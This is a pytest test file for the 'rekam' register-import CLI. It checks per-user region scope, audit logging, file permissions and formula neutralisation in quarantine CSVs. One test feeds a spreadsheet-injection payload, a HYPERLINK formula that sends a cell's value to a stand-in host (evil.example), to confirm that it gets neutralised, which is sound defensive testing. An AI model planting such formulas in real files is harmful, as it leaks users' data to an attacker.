"""`rekam import --user` (issue #13): the import runs with that user's scope and is audited
under the name; the quarantine file neutralises formulas; files holding personal data are
0600 in 0700 folders. Asserts name codes and counts only (no personal data on failure)."""

from __future__ import annotations

import csv
import json
import stat
from pathlib import Path

import pytest
from tests.conftest import person, write_register

from rekam.config import Settings

DATE = "2024-11-13"
PASSWORD = "rahasia-demo-123"


@pytest.fixture
def users(rekam_home: Path):  # noqa: ANN201
    from rekam.ops import users as ops_users
    from rekam.ops.db import close_all, open_db

    db = open_db(settings=Settings(home=rekam_home))
    ops_users.add_user(db, "solok", PASSWORD, "dinas", "13.72")
    ops_users.add_user(db, "riau", PASSWORD, "admin-provinsi", "14")
    ops_users.add_user(db, "mati", PASSWORD, "dinas", "13.72")
    ops_users.set_disabled(db, "mati", True)
    yield db
    close_all()


def rows_of(kab: str, n: int, start: int = 1) -> list[str]:
    return [person(i, "1990-01-01", desa=f"{kab}.01.1001") for i in range(start, start + n)]


def snapshot_state(home: Path) -> tuple[str | None, list[str], list[str]]:
    from rekam.register.store import Store

    q = home / "quarantine"
    return (
        Store(home).current_id(),
        sorted(p.name for p in (home / "snapshots").glob("*")),
        sorted(p.name for p in q.glob("*")) if q.is_dir() else [],
    )


@pytest.mark.parametrize(("user", "kab"), [("solok", "13.71"), ("riau", "13.72")])
def test_import_as_a_user_outside_their_region_is_refused(cli, users, rekam_home, tmp_path, user, kab):
    base = write_register(tmp_path / "base.csv", rows_of("13.71", 4) + rows_of("13.72", 3, 100))
    assert cli("import", base, "--date", "2024-11-01").code == 0
    before = snapshot_state(rekam_home)
    attack = write_register(tmp_path / "padang5.csv", rows_of(kab, 5, 500) + ["1,2,3"])
    run = cli("import", attack, "--date", DATE, "--user", user, "--json")
    assert run.code == 1
    assert kab in run.err and "Traceback" not in run.err
    assert snapshot_state(rekam_home) == before
    [entry] = [e for e in map(json.loads, (rekam_home / "audit.log").read_text().splitlines())]
    assert (entry["user"], entry["action"], entry["reason"]) == (user, "import-refused", "import_outside_scope")


def test_import_as_a_user_inside_their_region_is_done_and_audited_under_the_name(cli, users, rekam_home, tmp_path):
    own = write_register(tmp_path / "solok.csv", rows_of("13.72", 3) + ["1,2,3"])
    run = cli("import", own, "--date", DATE, "--user", "solok", "--json")
    assert run.code == 0, run.err
    result = run.json()
    assert (result["accepted"], result["kab_codes"]) == (3, ["13.72"])
    assert Path(result["quarantine_file"]).is_file()  # still the import's whole quarantine file
    [entry] = [json.loads(line) for line in (rekam_home / "audit.log").read_text().splitlines()]
    assert (entry["user"], entry["action"], entry["kab_codes"]) == ("solok", "import", ["13.72"])


@pytest.mark.parametrize(("user", "word"), [("tidak-ada", "tidak-ada"), ("mati", "dinonaktifkan")])
def test_import_as_an_unknown_or_disabled_user_is_refused(cli, users, rekam_home, tmp_path, user, word):
    own = write_register(tmp_path / "solok.csv", rows_of("13.72", 2))
    run = cli("import", own, "--date", DATE, "--user", user)
    assert run.code == 1 and word in run.err
    assert snapshot_state(rekam_home) == (None, [], [])


def test_the_quarantine_file_neutralises_formulas(cli, tmp_path):
    rows = rows_of("13.71", 2)
    formulas = ['=HYPERLINK("http://evil.example/?"&A1;"klik")', "@SUM(1+1)", "+1+1", "-1+1"]
    bad = []
    for i, f in enumerate(formulas):
        fields = person(900 + i, "1990-01-01").split(",")
        fields[2] = f'"{f.replace(chr(34), chr(34) * 2)}"'  # the name
        fields[4] = ""  # no birth date: quarantined
        bad.append(",".join(fields))
    bad.append("=1+1,@x")  # too few fields: rejected while splitting, raw_row kept
    path = write_register(tmp_path / "=rumus.csv", rows + bad)
    run = cli("import", path, "--date", DATE, "--json")
    assert run.code == 0, run.err
    with open(run.json()["quarantine_file"], encoding="utf-8", newline="") as f:
        quarantined = list(csv.DictReader(f))
    assert len(quarantined) == 5
    names = sorted(r["NAMA_LGKP"] for r in quarantined if r["NAMA_LGKP"])
    assert names == sorted("'" + f for f in formulas)
    for row in quarantined:
        for column, value in row.items():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), column


def test_sql_and_python_neutralise_alike() -> None:
    import duckdb

    from rekam.domain.cells import neutralise
    from rekam.register.quarantine import neutralise_sql

    values = ["=1+1", "+1", "-2", "@SUM(1)", "\tx", "\rx", "'=x", "a=b", "", "13.71", " =x"]
    con = duckdb.connect()
    for v in values:
        [(got,)] = con.execute(f"SELECT {neutralise_sql('CAST($1 AS VARCHAR)')}", [v]).fetchall()
        assert got == neutralise(v), repr(v)
    [(none,)] = con.execute(f"SELECT {neutralise_sql('NULL::VARCHAR')}").fetchall()
    assert none is None


def assert_private(home: Path) -> int:
    """Every file under ``home`` 0600 or stricter, every folder 0700; the number checked."""
    checked = 0
    for p in [home, *home.rglob("*")]:
        mode = stat.S_IMODE(p.stat().st_mode)
        assert mode & 0o077 == 0, (str(p.relative_to(home)), oct(mode))
        checked += 1
    return checked


def test_files_holding_personal_data_are_private_even_under_a_loose_umask(rekam_home, tmp_path):
    import os

    from rekam import audit
    from rekam.api import Rekam
    from rekam.ops.db import close_all, open_db

    old = os.umask(0o022)
    try:
        path = write_register(tmp_path / "siak.csv", rows_of("13.71", 3) + ["1,2,3"])
        Rekam(Settings(home=rekam_home)).import_register([path])
        audit.record(rekam_home, "list", list="belum-rekam", region="13.71", people=3, unmasked=False)
        open_db(settings=Settings(home=rekam_home))
        close_all()
    finally:
        os.umask(old)
    names = {p.name for p in rekam_home.rglob("*")}
    assert {"audit.log", "ops.db", "CURRENT"} <= names and any(n.endswith(".parquet") for n in names)
    assert any(n.endswith(".csv") for n in names)
    assert assert_private(rekam_home) > 8


def test_the_cli_runs_with_umask_077(cli, tmp_path):
    import os

    old = os.umask(0o022)
    try:
        cli("snapshots")
        now = os.umask(0o022)
    finally:
        os.umask(old)
    assert now == 0o077
